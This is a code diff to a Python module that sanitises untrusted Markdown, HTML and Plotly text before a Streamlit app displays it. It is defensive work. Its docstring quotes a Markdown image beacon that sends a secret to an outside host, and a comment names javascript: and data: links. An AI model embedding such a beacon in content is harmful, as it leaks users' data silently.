@@ -1,11 +1,203 @@
-"""Showing user and document text literally inside Streamlit Markdown."""
+"""The one rule for drawing untrusted text (documents, uploads, bundles, model answers) in the app.
+
+Streamlit renders Markdown in ``st.markdown``, alerts, captions, widget labels and tooltips, and Markdown can
+make the browser fetch a URL (``![pixel](http://host/beacon?q=secret)``). Every such text goes through one of:
+
+- ``md_escape``: shown exactly as typed, no formatting at all (labels, names, questions, messages);
+- ``safe_markdown``: formatted Markdown (answers quote documents) parsed with markdown-it-py and written back by
+  mdformat with every text run escaped, images replaced by their alt text and URL as inert text, raw HTML shown
+  as text, and links kept only for http(s), marked with ↗ and the host; anything else becomes inert text;
+- ``md_inert``: a message (an error naming a file or a value) with only what could be active escaped;
+- ``plot_text``: a label or hover text in a Plotly chart, which renders a subset of HTML (``<a href>``).
+"""
 
 from __future__ import annotations
 
+import html
 import re
+from urllib.parse import urlsplit
+
+from markdown_it import MarkdownIt
+from mdformat.renderer import MDRenderer, RenderContext, RenderTreeNode
+
+_MD_PUNCTUATION = re.compile(r"[\\`*_{}\[\]()#+\-.!|<>~$]")
+# What can start a link, an image or maths in a message or label (and a backtick, which could unpair the code
+# that URLs are shown in).
+_ACTIVE = re.compile(r"[\\\[\]$`]")
+# The same in a text run of formatted Markdown, plus what would start emphasis, code, raw HTML or an entity there
+# (the parser already turned real formatting into nodes; line-start markers are escaped by mdformat's paragraphs).
+_TEXT_ACTIVE = re.compile(r"[\\\[\]<>$!`*_~]|&(?=#?\w+;)")
+# What GFM links by itself. It does so after escapes are resolved, so no escape stops it: shown as inline code.
+_LITERAL_LINK = re.compile(r"(?:[a-z][a-z0-9+.-]*://|www\.)[^\s<>`]*|[\w.+-]+@[\w-]+(?:\.[\w-]+)+",
+                           re.IGNORECASE)
+_SAFE_SCHEMES = ("http", "https")
+
+
+def _outside_literals(text: str, escape) -> str:
+    """``text`` with ``escape`` applied between URLs, ``www.`` names and e-mail addresses, which become code."""
+    parts, last = [], 0
+    for match in _LITERAL_LINK.finditer(text):
+        parts += [escape(text[last : match.start()]), _code(match.group(0))]
+        last = match.end()
+    return "".join([*parts, escape(text[last:])])
 
 
 def md_escape(text: str) -> str:
-    """Escape Markdown (and Streamlit's ``$`` maths) so text is shown as typed; Streamlit never renders raw HTML
-    in Markdown, so ``<``/``&`` need no HTML escaping (which would show as ``&amp;``)."""
-    return re.sub(r"([\\`*_{}\[\]()#+\-.!|<>~$])", r"\\\1", text)
+    """Escape Markdown (and Streamlit's ``$`` maths, ``:colour[...]`` directives) so text is shown as typed; URLs and
+    e-mail addresses are shown as code, never as links; raw HTML is never rendered by Streamlit's Markdown."""
+    return _outside_literals(str(text), lambda t: _MD_PUNCTUATION.sub(lambda m: "\\" + m.group(0), t))
+
+
+def md_inert(text: str) -> str:
+    """Escape only what could make a message or label active (images, links, autolinks, maths), leaving ordinary
+    prose as written: for messages and labels that name files, settings or values from untrusted input. Raw HTML
+    needs no escape: Streamlit shows it as text; URLs and e-mail addresses are shown as code."""
+    return _outside_literals(str(text), lambda t: _ACTIVE.sub(lambda m: "\\" + m.group(0), t))
+
+
+def plot_text(text: str) -> str:
+    """Text for a Plotly label or hover: Plotly draws ``<a href>``, ``<b>``, ``<br>`` and entities, so escape them."""
+    return html.escape(str(text), quote=True)
+
+
+def _escape_run(text: str) -> str:
+    escaped = _outside_literals(text.replace("\t", " "), lambda t: _TEXT_ACTIVE.sub(lambda m: "\\" + m.group(0), t))
+    return escaped.replace("\n\n", "&#10;&#10;")
+
+
+def _plain(node: RenderTreeNode) -> str:
+    """The text of a node and its children, without markup (an image's alt text, a link's label)."""
+    if node.type in ("text", "code_inline", "html_inline"):
+        return node.content
+    if node.type in ("softbreak", "hardbreak"):
+        return " "
+    return "".join(_plain(child) for child in node.children)
+
+
+def _code(text: str) -> str:
+    """Inline code that holds ``text`` literally (URLs shown inert)."""
+    text = " ".join(text.split())
+    fence = "`" * (max((len(m) for m in re.findall(r"`+", text)), default=0) + 1)
+    return f"{fence} {text} {fence}"
+
+
+def safe_link(url: str) -> str | None:
+    """``url`` when it is an absolute http(s) URL with a host (the only links kept clickable), else None."""
+    try:
+        parts = urlsplit(url.strip())
+    except ValueError:
+        return None
+    if parts.scheme.lower() not in _SAFE_SCHEMES or not parts.hostname:
+        return None
+    return url.strip()
+
+
+def _render_text(node: RenderTreeNode, context: RenderContext) -> str:
+    text = _escape_run(node.content)
+    # A URL's code span beside inline code: a space keeps their backticks from merging into one unpaired run.
+    if text.endswith("`") and node.next_sibling is not None and node.next_sibling.type == "code_inline":
+        text += " "
+    if text.startswith("`") and node.previous_sibling is not None and node.previous_sibling.type == "code_inline":
+        text = " " + text
+    return text
+
+
+def _render_html(node: RenderTreeNode, context: RenderContext) -> str:
+    return _escape_run(node.content)
+
+
+def _render_html_block(node: RenderTreeNode, context: RenderContext) -> str:
+    content = node.content.rstrip("\n")
+    fence = "`" * max(3, max((len(m) for m in re.findall(r"`+", content)), default=0) + 1)
+    return f"{fence}html\n{content}\n{fence}"
+
+
+def _render_image(node: RenderTreeNode, context: RenderContext) -> str:
+    alt = " ".join(_plain(node).split()) or "image"
+    return f"\\[image: {_escape_run(alt)}\\] {_code(str(node.attrs.get('src', '')))}"
+
+
+def _render_link(node: RenderTreeNode, context: RenderContext) -> str:
+    href = str(node.attrs.get("href", ""))
+    label = "".join(child.render(context) for child in node.children) if node.info != "auto" else _escape_run(href)
+    url = safe_link(href)
+    if url is None:  # javascript:, data:, relative or file links: the label and the target, as text
+        return f"{label} {_code(href)}" if _plain(node).strip() != href.strip() else _code(href)
+    host = urlsplit(url).hostname or ""
+    destination = "<" + url.replace("<", "%3C").replace(">", "%3E") + ">"
+    return f"[{label} ↗ {_escape_run(host)}]({destination})"
+
+
+def _render_fence(node: RenderTreeNode, context: RenderContext) -> str:
+    language = node.info.strip().split(maxsplit=1)[0] if node.info.strip() else ""
+    language = re.sub(r"[^A-Za-z0-9_+.#-]", "", language)
+    content = node.content
+    fence = "`" * max(3, max((len(m) for m in re.findall(r"`+", content)), default=0) + 1)
+    return f"{fence}{language}\n{content}{'' if content.endswith(chr(10)) or not content else chr(10)}{fence}"
+
+
+def _render_cell(node: RenderTreeNode, context: RenderContext) -> str:
+    return "".join(child.render(context) for child in node.children).replace("|", "\\|").replace("\n", " ")
+
+
+def _render_table(node: RenderTreeNode, context: RenderContext) -> str:
+    rows: list[list[str]] = []
+    for section in node.children:  # thead, tbody
+        for row in section.children:
+            rows.append([_render_cell(cell, context) for cell in row.children])
+    if not rows:
+        return ""
+    width = max(len(row) for row in rows)
+    lines = ["| " + " | ".join(row + [""] * (width - len(row))) + " |" for row in rows]
+    lines.insert(1, "|" + "|".join(" --- " for _ in range(width)) + "|")
+    return "\n".join(lines)
+
+
+def _render_strike(node: RenderTreeNode, context: RenderContext) -> str:
+    return "~~" + "".join(child.render(context) for child in node.children) + "~~"
+
+
+class _InertPlugin:
+    """mdformat renderers that make untrusted Markdown inert (see the module docstring)."""
+
+    RENDERERS = {
+        "text": _render_text, "html_inline": _render_html, "html_block": _render_html_block,
+        "image": _render_image, "link": _render_link, "fence": _render_fence, "code_block": _render_fence,
+        "table": _render_table, "s": _render_strike,
+    }
+    POSTPROCESSORS: dict = {}
+
+
+def _parser(renderer=MDRenderer) -> MarkdownIt:
+    parser = MarkdownIt("commonmark", renderer_cls=renderer).enable(["table", "strikethrough"])
+    parser.options["parser_extension"] = [_InertPlugin]
+    parser.options["mdformat"] = {"wrap": "keep"}
+    return parser
+
+
+_MARKDOWN = _parser()
+_CHECK = MarkdownIt("commonmark").enable(["table", "strikethrough"])
+
+
+def _is_inert(markdown: str) -> bool:
+    """True when ``markdown`` (our output) holds no image, no raw HTML and no link other than http(s)."""
+    stack = list(_CHECK.parse(markdown))
+    while stack:
+        token = stack.pop()
+        if token.type in ("image", "html_inline", "html_block"):
+            return False
+        if token.type == "link_open" and safe_link(str(token.attrGet("href") or "")) is None:
+            return False
+        stack.extend(token.children or [])
+    return True
+
+
+def safe_markdown(text: str) -> str:
+    """Untrusted Markdown made inert for ``st.markdown``: formatting kept; no image, raw HTML or maths; links only
+    to http(s), marked with ↗ and their host. Falls back to ``md_escape`` if the result would not be inert."""
+    text = str(text)
+    try:
+        rendered = _MARKDOWN.render(text).strip("\n")
+    except Exception:  # a parser bug must not show the raw text: fall back to fully escaped
+        return md_escape(text)
+    return rendered if _is_inert(rendered) else md_escape(text)
